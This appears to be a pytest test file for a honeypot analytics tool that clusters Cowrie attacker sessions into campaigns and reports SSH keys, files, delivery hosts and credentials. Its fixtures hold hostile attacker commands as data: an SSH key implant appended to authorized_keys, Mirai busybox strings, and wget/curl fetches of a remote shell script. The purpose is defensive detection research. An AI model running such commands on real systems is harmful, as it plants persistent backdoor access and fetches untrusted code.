"""Campaigns: planted ones are found, the same whatever came first, and nobody is joined who does not belong."""

import random
from collections.abc import Iterable, Sequence
from dataclasses import replace
from hashlib import sha256
from typing import Any

import pytest
from sqlalchemy import delete, func, insert, select, text, update

from benchmarks.campaigns import LEAST_PRECISION, LEAST_RECALL, agreement, members
from benchmarks.planted import Planted, planted, store
from cowrie_assets.campaigns import listing
from cowrie_assets.campaigns.artefacts import Reading, Readings
from cowrie_assets.campaigns.update import are_current, figures_of, put_together, update_campaigns
from cowrie_assets.clock import US_PER_DAY, US_PER_SECOND
from cowrie_assets.cowrie.event_types import KNOWN
from cowrie_assets.warehouse import day_versions
from cowrie_assets.warehouse.chunks import chunks
from cowrie_assets.warehouse.dictionary import Dictionaries
from cowrie_assets.warehouse.engine import Warehouse
from cowrie_assets.warehouse.schema import (
    artefact_sources,
    campaign_facts,
    command_facts,
    downloaded_contents,
    file_facts,
    profiles,
    session_facts,
    session_keys,
    session_profiles,
    text_collections,
)
from cowrie_assets_tests import tables

DAY = 20_000
MIRAI = ("enable", "system", "shell", "sh", "/bin/busybox OWARI")
KEY = "AAAAC3NzaC1lZDI1NTE5AAAAIK0wmN/Cr3JXqmLW7u+g9pTh+wyqDHpSQEIQczXkVx9q"
FINGERPRINT = "SHA256:FHsTyFHNmvNpw4o7+rp+M1yqMyBF8vXSBRkZtkQ0RKY"
IMPLANT = f'mkdir -p ~/.ssh; echo "ssh-ed25519 {KEY} mdrfckr" >> ~/.ssh/authorized_keys'


def did(*commands: str, at: int, **changes: Any) -> Planted:
    """A session that began `at` seconds after the first day's begin."""
    began = DAY * US_PER_DAY + at * US_PER_SECOND
    usual = Planted(None, began, 0, f"192.0.2.{at % 250 + 1}", "ab" * 16, "root", "admin", True, commands)
    return replace(usual, **changes)


def script(name: str) -> tuple[str, ...]:
    """What nobody else types."""
    return (f"cd /opt/{name} || mkdir /opt/{name}", f"{name} --install /opt/{name} --quiet", f"nohup {name} -d {name}")


def put(warehouse: Warehouse, *sessions: Planted) -> list[int]:
    """Store sessions and put campaigns together; their `session_keys.id`."""
    refs = list(store(warehouse, iter(sessions)))
    update_campaigns(warehouse)
    return refs


def put_files(warehouse: Warehouse, files: dict[int, str], url: str | None = None) -> None:
    """Give sessions a file each, by its SHA-256."""
    with warehouse.write() as connection:
        ids = Dictionaries(KNOWN.__contains__).texts.resolve(connection, [*files.values(), *([url] if url else [])])
        for ref, shasum_id in zip(files, ids, strict=False):
            row = {"session_ref": ref, "shasum_id": shasum_id, "downloads": 1, "uploads": 0, "first_seen": 1}
            connection.execute(insert(file_facts), {**row, "updated_at": 1, "url_id": ids[-1] if url else None})
        touch(connection)
    update_campaigns(warehouse)


def remove(warehouse: Warehouse, refs: Sequence[int]) -> None:
    """Take sessions away, as where their events went."""
    with warehouse.write() as connection:
        for table in (command_facts, session_facts):
            connection.execute(delete(table).where(table.c.session_ref.in_(refs)))
        touch(connection)
        connection.execute(delete(session_keys).where(session_keys.c.id.in_(refs)))


def touch(connection: Any) -> None:
    rows = connection.execute(select(session_facts.c.session_day, session_facts.c.sensor_id))
    day_versions.renew_sessions(connection, {(day, sensor) for day, sensor in rows})


def together(warehouse: Warehouse) -> set[frozenset[int]]:
    """The campaigns, as the sessions (`session_keys.id`) of each."""
    found: dict[str, set[int]] = {}
    for ref, campaign in members(warehouse).items():
        found.setdefault(campaign, set()).add(ref)
    return {frozenset(some) for some in found.values()}


def of(refs: Sequence[int], *places: int) -> frozenset[int]:
    return frozenset(refs[place] for place in places)


def everything(warehouse: Warehouse) -> Any:
    """All that is told of campaigns and artefacts, but for what became of them."""
    return {view: tables.rows(warehouse, view) for view in ("campaigns", "campaign_sessions", "artefacts", "ssh_keys")}


def some_planted() -> list[Planted]:
    return list(planted(2_500, days=3, first_day=DAY, campaigns=12, seed=3))


@pytest.mark.sqlite_first
def test_planted_campaigns_are_found(warehouse: Warehouse) -> None:
    truth = store(warehouse, iter(some_planted()))
    update_campaigns(warehouse)
    found = agreement(truth, members(warehouse))
    assert found.precision >= LEAST_PRECISION
    assert found.recall >= LEAST_RECALL


@pytest.mark.sqlite_first
def test_the_same_whatever_came_first(warehouse: Warehouse, databases: Any, tmp_path: Any) -> None:
    """At once; in three parts by chance, each put together before the next comes. Where the last part goes, what was
    said before it came is said again."""
    sessions = some_planted()
    store(warehouse, iter(sessions))
    update_campaigns(warehouse)
    chance = random.Random(1)
    chance.shuffle(sessions)
    with Warehouse.open(databases.sqlite.new(tmp_path / "other.db")) as other:
        for part in range(2):
            put(other, *sessions[part::3])
        before = everything(other)
        refs = put(other, *sessions[2::3])
        assert everything(other) == everything(warehouse)
        with other.write() as connection:
            touch(connection)
            for some in chunks(refs):
                for table in (command_facts, session_facts):
                    connection.execute(delete(table).where(table.c.session_ref.in_(some)))
                connection.execute(delete(session_keys).where(session_keys.c.id.in_(some)))
        update_campaigns(other)
        assert everything(other) == before


def test_where_nothing_is_new_nothing_is_put_together(warehouse: Warehouse) -> None:
    """What other hands spoiled stays until all is looked at anew."""
    put(warehouse, did(*script("zukamo"), at=1), did(*script("zukamo"), at=2))
    before = everything(warehouse)
    with warehouse.write() as connection:
        connection.execute(update(campaign_facts).values(sessions=7))
    again = update_campaigns(warehouse)
    assert (again.days, again.campaigns, again.sessions, again.changed) == (0, 1, 7, 0)
    assert everything(warehouse) != before
    update_campaigns(warehouse, anew=True)
    assert everything(warehouse) == before


def test_an_update_that_was_ended_goes_on_where_it_was(warehouse: Warehouse, monkeypatch: pytest.MonkeyPatch) -> None:
    """Its days are profiled, and nobody put together what follows from them."""
    put(warehouse, did(*script("zukamo"), at=1))

    def ended(*_: object) -> None:
        raise KeyboardInterrupt

    with monkeypatch.context() as patched, pytest.raises(KeyboardInterrupt):
        patched.setattr("cowrie_assets.campaigns.update._put_together", ended)
        put(warehouse, did(*script("zukamo"), at=2))
    assert together(warehouse) == set()
    assert update_campaigns(warehouse).changed == 1
    assert [len(some) for some in together(warehouse)] == [2]


def test_what_was_read_is_remembered_until_it_is_read_anew_or_texts_are_collected(warehouse: Warehouse) -> None:
    put(warehouse, did("id", IMPLANT, at=1))
    readings = Readings()
    with warehouse.write() as connection:
        sources = set(connection.execute(select(command_facts.c.command_id)).scalars())
        first = readings.of(connection, {*sources, -1}, {})
        assert sorted(len(reading.marks) for reading in first.values()) == [0, 1]
        connection.execute(update(artefact_sources).values(token=7))
        assert readings.of(connection, sources, {}) == first
        anew = min(sources)
        assert readings.of(connection, sources, {anew: Reading(8, 1, ())}) == {**first, anew: Reading(8, 1, ())}
        assert readings.of(connection, sources, {})[anew].token == 7
        connection.execute(insert(text_collections), {"version": 1, "collected_at": 1, "texts": 1})
        assert {reading.token for reading in readings.of(connection, sources, {}).values()} == {7}


def test_a_url_that_is_typed_on_another_day_is_a_form_from_then_on(warehouse: Warehouse) -> None:
    url = "http://203.0.113.9/a"
    days = [did("id", at=0), *(did(url, at=day * 86_400) for day in (1, 2, 3))]
    refs = list(store(warehouse, iter([*days, did("w", at=4 * 86_400)])))
    with warehouse.write() as connection:
        connection.execute(delete(command_facts).where(command_facts.c.session_ref == refs[1]))
        (url_id, shasum_id) = Dictionaries(KNOWN.__contains__).texts.resolve(connection, [url, "ab" * 32])
        for ref in refs[:2]:
            row = {"session_ref": ref, "shasum_id": shasum_id, "downloads": 1, "uploads": 0, "first_seen": 1}
            connection.execute(insert(file_facts), {**row, "updated_at": 1, "url_id": url_id})
    update_campaigns(warehouse)
    with warehouse.read() as connection:
        rows = connection.execute(select(session_profiles.c.session_ref, session_profiles.c.profile)).all()
    profile_of = {row.session_ref: row.profile for row in rows}
    assert profile_of[refs[2]] == profile_of[refs[3]]


def test_figures_of_some_are_those_of_all(warehouse: Warehouse) -> None:
    """Looked up for a few campaigns, counted from all sessions for many: the same rows, and those that are stored."""
    store(warehouse, planted(300, days=3, first_day=DAY, campaigns=5, seed=4))
    update_campaigns(warehouse)
    with warehouse.read() as connection:
        found = put_together(connection)
        some = sorted(found.campaigns)[:2]
        few, many = (list(figures_of(connection, some, are_many=are_many)) for are_many in (False, True))
        stored = {row["campaign"]: row for row in connection.execute(select(campaign_facts)).mappings()}
    assert sorted(map(repr, few)) == sorted(map(repr, many))
    assert [row["campaign"] for row in many if any(stored[row["campaign"]][name] != row[name] for name in row)] == []
    assert len(many) == len(some)


def test_a_session_of_another_day_and_another_deed_has_one_profile(warehouse: Warehouse) -> None:
    """What came late moves a session to the day before, and has it do something else."""
    (moved, other) = put(warehouse, did(*script("zukamo"), at=10), did(*script("veripa"), at=20))
    with warehouse.write() as connection:
        where = session_facts.c.session_ref == moved
        earlier = {"session_day": DAY - 1, "first_event_at": DAY * US_PER_DAY - 1}
        connection.execute(update(session_facts).where(where).values(**earlier))
        typed = select(command_facts.c.command_id).where(command_facts.c.session_ref == moved)
        first = connection.execute(typed).scalars().first()
        connection.execute(
            delete(command_facts).where(command_facts.c.session_ref == moved, command_facts.c.command_id != first)
        )
        touch(connection)
    assert update_campaigns(warehouse).rows == 1
    with warehouse.read() as connection:
        began = {row.session_ref: row.first_event_at for row in connection.execute(select(session_profiles))}
        assert {ref: at // US_PER_DAY for ref, at in began.items()} == {moved: DAY - 1, other: DAY}
        assert connection.execute(select(func.count()).select_from(profiles)).scalar() == 2


def test_who_did_the_same_belongs_together(warehouse: Warehouse) -> None:
    varied = [
        (*script("zukamo"), "uname -a"),
        ("id", *script("zukamo")),
        script("zukamo"),
        script("veripa"),
        ("uname -a",),
        ("uname -a",),
        MIRAI[:4],
        MIRAI[:4],
    ]
    refs = put(warehouse, *(did(*commands, at=number) for number, commands in enumerate(varied)))
    assert together(warehouse) == {of(refs, 0, 1, 2)}


def test_a_shared_opening_and_single_links_join_nobody(warehouse: Warehouse) -> None:
    """Between two behaviours stands one session that did both: it joins neither to the other."""
    one, other = (*MIRAI, *script("zukamo")), (*MIRAI, *script("veripa"))
    rows = [one, one, other, other, (*one, *script("veripa"))]
    refs = put(warehouse, *(did(*commands, at=number) for number, commands in enumerate(rows)))
    found = together(warehouse)
    assert not any(some >= of(refs, 0, 2) for some in found)
    assert of(refs, 0, 1) <= next(some for some in found if refs[0] in some)


def test_a_key_joins_and_is_told(warehouse: Warehouse) -> None:
    """Whatever else they type; another key in the same words does not."""
    other = KEY.replace("x9q", "x9A")
    rows = [(IMPLANT, "w"), ("id", IMPLANT), (IMPLANT.replace(KEY, other),), (IMPLANT.replace(KEY, other), "ls")]
    refs = put(warehouse, *(did(*commands, at=number) for number, commands in enumerate(rows)))
    assert together(warehouse) == {of(refs, 0, 1), of(refs, 2, 3)}
    assert {row["name"] for row in tables.rows(warehouse, "campaigns")} == {"key mdrfckr"}
    (told,) = [row for row in tables.rows(warehouse, "ssh_keys") if row["fingerprint"] == FINGERPRINT]
    assert (told["type"], told["comment"], told["sessions"]) == ("ssh-ed25519", "mdrfckr", 2)
    assert told["first_seen"] < told["last_seen"]


def test_a_key_in_an_examined_file_is_one_of_the_sessions_that_have_the_file(warehouse: Warehouse) -> None:
    refs = put(warehouse, did(IMPLANT, at=1), did("id", at=2))
    put_files(warehouse, {refs[1]: "ab" * 32})
    assert together(warehouse) == set()
    with warehouse.write() as connection:
        (shasum_id,) = connection.execute(select(file_facts.c.shasum_id)).scalars()
        row = {"shasum_id": shasum_id, "size": 1, "type": "text", "entropy": 0, "sha1": b"", "md5": b"", "tlsh": None}
        strings = f'{{"ssh_keys": ["{FINGERPRINT}"]}}'
        connection.execute(
            insert(downloaded_contents), {**row, "strings": strings, "examined_as": b"", "examined_at": 1}
        )
    update_campaigns(warehouse)
    assert together(warehouse) == {of(refs, 0, 1)}
    (told,) = tables.rows(warehouse, "ssh_keys")
    assert told["sessions"] == 2


@pytest.mark.parametrize(("shasum", "joined"), [("cd" * 32, True), (sha256(b"").hexdigest(), False)])
def test_a_rare_file_joins_and_a_trivial_one_does_not(warehouse: Warehouse, shasum: str, joined: bool) -> None:
    refs = put(warehouse, did("id", at=1), did("w", at=2))
    put_files(warehouse, dict.fromkeys(refs, shasum))
    assert together(warehouse) == ({of(refs, 0, 1)} if joined else set())


@pytest.mark.parametrize(
    ("host", "joined"), [("203.0.113.9", True), ("raw.githubusercontent.com", False), ("10.1.2.3", False)]
)
def test_a_delivery_host_joins_where_it_is_somebodys_own(warehouse: Warehouse, host: str, joined: bool) -> None:
    rows = [(f"wget http://{host}/a", "w"), ("id", f"curl -O http://{host}/b.sh")]
    refs = put(warehouse, *(did(*commands, at=number) for number, commands in enumerate(rows)))
    assert together(warehouse) == ({of(refs, 0, 1)} if joined else set())


def test_a_host_that_is_merely_named_joins_only_while_somebody_fetches_from_it(warehouse: Warehouse) -> None:
    refs = put(
        warehouse, did("echo http://203.0.113.9/a", at=1), did("w", "# see 203.0.113.9/", "x 203.0.113.9:80", at=2)
    )
    assert together(warehouse) == set()
    refs += put(warehouse, did("id", "H=203.0.113.9; wget http://$H/b", at=3))
    assert together(warehouse) == {of(refs, 0, 2)}
    refs += put(warehouse, did("uptime", "ls http://203.0.113.9/c", at=4))
    assert together(warehouse) == {of(refs, 0, 2, 3)}
    remove(warehouse, refs[2:3])
    update_campaigns(warehouse)
    assert together(warehouse) == set(), "as if nobody ever had"


def test_a_rare_credential_joins_with_the_same_hassh(warehouse: Warehouse) -> None:
    refs = put(
        warehouse,
        did(at=1, password="345gs5662d34"),
        did(at=2, password="345gs5662d34"),
        did(at=3, password="345gs5662d34", hassh="cd" * 16),
        did(at=4, password="password2024"),
        did(at=5, password="password2024"),
    )
    assert together(warehouse) == {of(refs, 0, 1)}
    (told,) = tables.rows(warehouse, "campaigns")
    assert told["name"] == "login root"


def test_an_id_stays_and_what_became_of_others_is_kept(warehouse: Warehouse) -> None:
    """Two behaviours that grow together by a key that both implant later; and apart, as its sessions go."""
    one, other = script("zukamo"), script("veripa")
    put(warehouse, did(*one, at=10), did(*one, at=11), did(*other, at=20), did(*other, at=21))
    first, second = sorted(tables.rows(warehouse, "campaigns"), key=lambda row: row["first_seen"])
    keyed = put(
        warehouse,
        *(did(*one, IMPLANT, at=at) for at in range(30, 36)),
        *(did(*other, IMPLANT, at=at) for at in range(40, 46)),
    )
    assert {row["campaign_id"] for row in tables.rows(warehouse, "campaigns")} == {first["campaign_id"]}
    with warehouse.read() as connection:
        told = listing.campaign(connection, second["campaign_id"])
    assert told is not None
    assert told.campaign.campaign_id == first["campaign_id"]
    assert [(change.kind, change.sessions) for change in told.changes] == [("merged", 2)]
    remove(warehouse, keyed)
    assert update_campaigns(warehouse).changes == {"split": 1}
    assert sorted(tables.rows(warehouse, "campaigns"), key=lambda row: row["first_seen"]) == [first, second]
    with warehouse.read() as connection:
        assert connection.execute(text("SELECT COUNT(*) FROM profiles")).scalar() == 2
        assert connection.execute(text("SELECT COUNT(DISTINCT sequence) FROM sequence_bands")).scalar() == 2
        assert are_current(connection)


def test_an_earlier_session_renames_a_campaign(warehouse: Warehouse) -> None:
    put(warehouse, did(*script("zukamo"), at=10), did(*script("zukamo"), at=11))
    (before,) = tables.rows(warehouse, "campaigns")
    put(warehouse, did(*script("zukamo"), at=5))
    (after,) = tables.rows(warehouse, "campaigns")
    assert (after["sessions"], after["campaign_id"] == before["campaign_id"]) == (3, False)
    with warehouse.read() as connection:
        told = listing.campaign(connection, before["campaign_id"])
        assert told is not None
        assert [change.kind for change in told.changes] == ["renamed"]
        assert listing.campaign(connection, "none") is None


def test_what_is_told_of_one(warehouse: Warehouse) -> None:
    rows: Iterable[Planted] = (
        did(*script("zukamo"), at=10 + 86_400 * day, sensor=day % 2, address=f"198.51.100.{day + 1}")
        for day in range(10)
    )
    put(warehouse, *rows)
    with warehouse.read() as connection:
        (found,) = listing.campaigns(connection, most=5)
        told = listing.campaign(connection, found.campaign_id)
    assert told is not None
    assert (found.sessions, found.addresses, found.sensors, found.days, found.profiles) == (10, 10, 2, 10, 1)
    assert (found.this_week, found.week_before) == (8, 2)
    assert found.name == "cd /opt/zukamo || mkdir /opt/zukamo"
    assert [each.value for each in told.typed] == list(script("zukamo"))
    assert [(each.value, each.sessions) for each in told.hassh] == [("ab" * 16, 10)]
    assert (told.newest.sensor, told.newest.src_ip, found.oldest.src_ip) == ("hp-1", "198.51.100.10", "198.51.100.1")
    assert listing.document_of(told)["campaign"]["sessions"] == 10
